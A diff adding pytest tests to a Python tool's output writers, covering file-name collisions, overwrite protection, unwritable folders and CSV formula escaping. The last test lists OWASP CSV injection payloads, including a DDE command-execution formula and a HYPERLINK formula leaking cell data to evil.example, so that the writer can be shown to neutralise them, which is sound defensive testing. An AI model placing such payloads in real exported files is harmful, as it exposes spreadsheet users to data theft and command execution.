@@ -15,7 +15,8 @@ import pytest
 
 from mmva.analyze.subtitles import read_subtitles
 from mmva.analyze.timeline import SCHEMA_VERSION, Timeline, apply_prediction
-from mmva.analyze.writers import FORMATS, get_writer, output_stem, parse_formats, write_outputs
+from mmva.analyze.writers import (FORMATS, OutputError, check_output_dir, get_writer, output_stem, parse_formats,
+                                  plan_outputs, write_outputs)
 from mmva.io import storage
 from mmva.labels import EMOTIONS, SENTIMENTS
 from mmva.types import Utterance
@@ -144,6 +145,60 @@ def test_formats_and_paths(timeline, tmp_path):
     assert [p.rsplit(".", 1)[1] for p in written] == list(FORMATS)
     assert all((tmp_path / "out" / f"interview.mmva.{ext}").stat().st_size > 0 for ext in FORMATS)
     assert not list((tmp_path / "out").glob(".*tmp"))  # atomic writes leave no temp files
+
+
+def test_output_names_never_collide():
+    # talk.mp4 and talk.wav side by side keep their extensions; others keep the short name
+    assert plan_outputs(["c/talk.mp4", "c/talk.wav", "c/notes.txt"], "out") == {
+        "c/talk.mp4": ("out", "talk.mp4.mmva"), "c/talk.wav": ("out", "talk.wav.mmva"),
+        "c/notes.txt": ("out", "notes.mmva")}
+    # the same name in different folders: the differing part of the path becomes a sub-folder
+    assert plan_outputs(["a/talk.mp4", "b/x/talk.mp4"], "out") == {
+        "a/talk.mp4": ("out/a", "talk.mmva"), "b/x/talk.mp4": ("out/b/x", "talk.mmva")}
+    assert plan_outputs(["s3://in/a/talk.mp4", "s3://in/b/talk.mp4"], "s3://out/r") == {
+        "s3://in/a/talk.mp4": ("s3://out/r/a", "talk.mmva"), "s3://in/b/talk.mp4": ("s3://out/r/b", "talk.mmva")}
+    # names that differ only in case are one file on macOS and Windows disks
+    plan = plan_outputs(["Talk.mp4", "talk.mp4", "TALK.wav"], "out")
+    assert len({(d, stem.casefold()) for d, stem in plan.values()}) == 3
+    # a folder given on the command line keeps its sub-folders
+    assert plan_outputs(["in/sub/v.wav", "in/v.wav"], "out", roots=["in"]) == {
+        "in/sub/v.wav": ("out/sub", "v.mmva"), "in/v.wav": ("out", "v.mmva")}
+
+
+def test_an_output_written_earlier_in_the_command_is_not_overwritten(timeline, tmp_path):
+    written: set[str] = set()
+    first = write_outputs(timeline, str(tmp_path), ["json", "csv"], written=written)
+    before = Path(first[0]).read_text()
+    other = Timeline(source="elsewhere/interview.wav", utterances=[])
+    with pytest.raises(OutputError, match="interview.mmva.json: already written by this command"):
+        write_outputs(other, str(tmp_path), ["srt", "json"], written=written)
+    assert Path(first[0]).read_text() == before and not (tmp_path / "interview.mmva.srt").exists()
+    write_outputs(other, str(tmp_path), ["json"])  # a later command may replace it, as before
+
+
+def test_unwritable_destination_is_named_before_any_work(tmp_path):
+    blocker = tmp_path / "file.txt"
+    blocker.write_text("x")
+    with pytest.raises(OutputError, match=r"file.txt/out: cannot write outputs here"):
+        check_output_dir(str(blocker / "out"))
+    check_output_dir(str(tmp_path / "new" / "folder"))  # created
+    assert (tmp_path / "new" / "folder").is_dir() and not list((tmp_path / "new" / "folder").iterdir())
+
+
+# OWASP CSV injection payloads: each must reach a spreadsheet as text, not as a formula.
+OWASP_CSV = ["=1+2", "=cmd|' /C calc'!A0", "+1+2", "-1+2", "@SUM(1+2)", "\t=1+2", "\r=1+2",
+             '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=IMPORTXML(CONCAT(\"http://x/\", A1), \"//a\")"]
+
+
+def test_csv_cells_never_start_a_formula(timeline):
+    timeline.utterances = [Utterance(text=t, start_time=i, end_time=i + 1.0) for i, t in enumerate(OWASP_CSV)]
+    rows = list(csv.DictReader(io.StringIO(get_writer("csv").to_string(timeline))))
+    assert len(rows) == len(OWASP_CSV)
+    for row, payload in zip(rows, OWASP_CSV):
+        assert row["text"] == "'" + payload  # the apostrophe makes the cell text; the words stay
+        assert row["text"][0] not in "=+-@\t\r"
+    timeline.utterances[0].text = "fine - really"
+    assert list(csv.DictReader(io.StringIO(get_writer("csv").to_string(timeline))))[0]["text"] == "fine - really"
 
 
 def test_outputs_to_s3(timeline, s3_bucket):
